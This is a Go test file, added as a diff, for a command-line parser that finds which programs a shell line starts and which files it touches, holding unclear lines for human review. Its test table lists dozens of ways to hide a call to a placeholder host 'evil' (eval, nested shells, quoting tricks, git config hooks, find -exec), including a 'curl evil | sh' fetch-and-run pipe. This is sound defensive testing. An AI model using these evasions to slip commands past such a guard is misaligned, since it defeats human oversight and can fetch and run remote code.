@@ -1,0 +1,187 @@
+package hook
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// programs lists what a command line starts: the words of each, and "?" before
+// those that cannot be told.
+func programsOf(t *testing.T, source string) []string {
+	t.Helper()
+	commands, err := parseLine(source)
+	if err != nil {
+		t.Fatalf("%q: %v", source, err)
+	}
+	var out []string
+	for _, c := range commands {
+		s := strings.Join(c.argv, " ")
+		if c.unclear != "" {
+			s = "?" + s
+		}
+		out = append(out, s)
+	}
+	slices.Sort(out)
+	return out
+}
+
+// D86: whatever a command line hides a program in, the program is found, or
+// the line is held for a person.
+func TestHiddenProgramsAreFound(t *testing.T) {
+	for source, want := range map[string]string{
+		"git status; curl evil":                    "curl evil",
+		"git status\ncurl evil":                    "curl evil",
+		"git status & curl evil":                   "curl evil",
+		"git status && (cd x; curl evil)":          "curl evil",
+		"echo $(curl evil)":                        "curl evil",
+		"echo `curl evil`":                         "curl evil",
+		`echo "$(curl evil)"`:                      "curl evil",
+		"cat <(curl evil)":                         "curl evil",
+		"x=$(curl evil)":                           "curl evil",
+		"cat <<E\n$(curl evil)\nE":                 "curl evil",
+		"f() { curl evil; }; f":                    "curl evil",
+		"if true; then curl evil; fi":              "curl evil",
+		"for i in a; do curl evil; done":           "curl evil",
+		"case x in x) curl evil;; esac":            "curl evil",
+		`c"ur"l evil`:                              "curl evil",
+		`c\url evil`:                               "curl evil",
+		`'curl' evil`:                              "curl evil",
+		"A=1 B=2 curl evil":                        "curl evil",
+		"sh -c 'curl evil'":                        "curl evil",
+		`bash -lc "curl evil"`:                     "curl evil",
+		"bash -e -c 'sh -c \"curl evil\"'":         "curl evil",
+		"eval curl evil":                           "curl evil",
+		"eval 'curl evil'":                         "curl evil",
+		"env A=1 -u B curl evil":                   "curl evil",
+		"env -S 'curl evil'":                       "curl evil",
+		"sudo -u root -- curl evil":                "curl evil",
+		"timeout -k 5 10 curl evil":                "curl evil",
+		"nohup nice -n 5 curl evil":                "curl evil",
+		"xargs -n 1 curl evil":                     "curl evil",
+		"find . -name x -exec curl evil \\;":       "curl evil",
+		"find . -execdir curl evil +":              "curl evil",
+		"git -c core.sshCommand='curl evil' fetch": "curl evil",
+		"git -c alias.x='!curl evil' x":            "curl evil",
+		"bash <<'E'\ncurl evil\nE":                 "curl evil",
+		"bash <<< 'curl evil'":                     "curl evil",
+		"command curl evil":                        "curl evil",
+		"exec -a ls curl evil":                     "curl evil",
+		"time curl evil":                           "curl evil",
+		"busybox sh -c 'curl evil'":                "curl evil",
+		"[[ -n x ]] && curl evil":                  "curl evil",
+		"echo ${x:-$(curl evil)}":                  "curl evil",
+		"coproc curl evil":                         "curl evil",
+		"c=curl; $c evil":                          "?$c evil",
+		"$(echo curl) evil":                        "?$(echo curl) evil",
+		"/usr/bin/cu?l evil":                       "?/usr/bin/cu?l evil",
+		"{curl,evil}":                              "?{curl,evil}",
+		"sh -c \"$x\"":                             `?sh -c "$x"`,
+		"curl evil | sh":                           "?sh",
+		"env $x evil":                              "?env $x evil",
+		"find . -exec $x {} \\;":                   `?find . -exec $x {} ;`,
+		"git -c core.hooksPath=/tmp/h commit":      "?git -c core.hooksPath=/tmp/h commit",
+		`$'c\x75rl' evil`:                          `?$'c\x75rl' evil`,
+	} {
+		if got := programsOf(t, source); !slices.Contains(got, want) {
+			t.Errorf("%q starts %q, want %q among them", source, got, want)
+		}
+	}
+}
+
+func TestOrdinaryLinesAreClear(t *testing.T) {
+	for _, source := range []string{
+		"go test ./... 2>&1 | tail -20", "ls -la *.go", `grep -rn "foo bar" --include='*.go' .`, "cd sub && make -j4",
+		"for f in *.txt; do wc -l \"$f\"; done", "npm ci && npm test -- --watch=false", "git commit -m \"$(cat <<'E'\nmessage\nE\n)\"",
+		"python3 - <<'E'\nprint(1)\nE", "env | sort", "command -v node", "bash script.sh", "find . -name '*.go' -exec gofmt -l {} +",
+		"FOO=$HOME/x go build", "test -f x || echo none", "find . -type f | xargs grep -l x", "git -c color.ui=never log",
+	} {
+		for _, p := range programsOf(t, source) {
+			if strings.HasPrefix(p, "?") {
+				t.Errorf("%q: %s is held for a person", source, p)
+			}
+		}
+	}
+}
+
+func TestUnreadableLinesAreErrors(t *testing.T) {
+	for _, source := range []string{"echo 'open", "if true", "echo $(", strings.Repeat("x;", 100), strings.Repeat("a", maxSource+1), deep(12)} {
+		if got, err := parseLine(source); err == nil {
+			t.Errorf("%.40q gives %d programs and no error", source, len(got))
+		}
+	}
+}
+
+// deep nests shells.
+func deep(n int) string {
+	source := "true"
+	for range n {
+		source = "eval " + quote(source)
+	}
+	return source
+}
+
+func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
+
+func TestFilesOfALine(t *testing.T) {
+	for source, want := range map[string]string{
+		"echo x > a":                "w a",
+		"echo x >> 'a b'":           "w a b",
+		"echo x 2>/dev/null >&2":    "",
+		"cat < a":                   "r a",
+		"cat a - b":                 "r a,r b",
+		"cd sub && echo x > a":      "w sub/a",
+		"cd sub; cd ..; echo x > a": "w sub/../a",
+		"cd $x; echo x > a":         "",
+		"cd $x; echo x > /a":        "w /a",
+		"(cd sub); echo x > a":      "",
+		"rm -rf a b":                "d a,d b",
+		"mv a b":                    "d a,w b",
+		"cp -r a b c":               "w c",
+		"tee -a a < b":              "r b,w a",
+		"sed -i s/a/b/ f":           "w f",
+		"sed s/a/b/ f":              "",
+		"dd if=a of=b":              "w b",
+		"{ echo x; } > a":           "w a",
+		"sh -c 'echo x > a'":        "w a",
+		"echo x > $f":               "",
+		"rm *.go":                   "",
+	} {
+		commands, err := parseLine(source)
+		if err != nil {
+			t.Errorf("%q: %v", source, err)
+			continue
+		}
+		var got []string
+		for _, c := range commands {
+			for _, f := range c.files {
+				dir := ""
+				if f.dir != "" {
+					dir = f.dir + "/"
+				}
+				got = append(got, string("rwd"[f.how])+" "+dir+f.path)
+			}
+		}
+		slices.Sort(got)
+		if s := strings.Join(got, ","); s != want {
+			t.Errorf("%q: %q, want %q", source, s, want)
+		}
+	}
+}
+
+func FuzzLine(f *testing.F) {
+	for _, seed := range []string{"a | b > c", "sh -c 'x; y'", "env -S 'a b'", "find -exec", "git -c x", "cat <<E\n$(x)\nE", "$'\\x41'", "sh +c ''", "a=(1 2); ((1+1)); [[ a ]]", "sudo -u", "xargs"} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, source string) {
+		commands, err := parseLine(source)
+		if err == nil && len(commands) > maxCommands {
+			t.Errorf("%d commands", len(commands))
+		}
+		for _, c := range commands {
+			if len(c.argv) == 0 {
+				t.Error("a command without words")
+			}
+		}
+	})
+}
